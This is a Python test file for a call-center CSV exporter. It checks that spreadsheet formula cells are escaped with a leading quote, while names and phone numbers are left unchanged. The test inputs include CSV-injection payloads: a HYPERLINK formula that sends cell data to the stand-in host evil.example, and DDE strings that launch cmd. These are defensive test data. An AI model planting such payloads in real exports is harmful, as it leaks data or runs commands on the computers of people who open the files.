"""Exported cells a spreadsheet would run as formulas are written as text."""

import csv
import io
from decimal import Decimal

import pytest

from callcenter.csv_export import cell, csv_lines


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(typed):
    assert cell(typed) == "'" + typed


@pytest.mark.parametrize(
    "value", ["Karen Berg", "+1 555 010-2001", "-5", "(555) 010-2001", "", 3, Decimal("-1.50")]
)
def test_names_numbers_and_phone_numbers_are_written_as_they_are(value):
    assert cell(value) == value


def test_none_is_an_empty_cell_and_rows_are_csv_lines():
    lines = list(csv_lines([["a", None, "=1+1"], ["Berg, Karen", 2, "@x"]]))
    assert list(csv.reader(io.StringIO("".join(lines)))) == [
        ["a", "", "'=1+1"],
        ["Berg, Karen", "2", "'@x"],
    ]
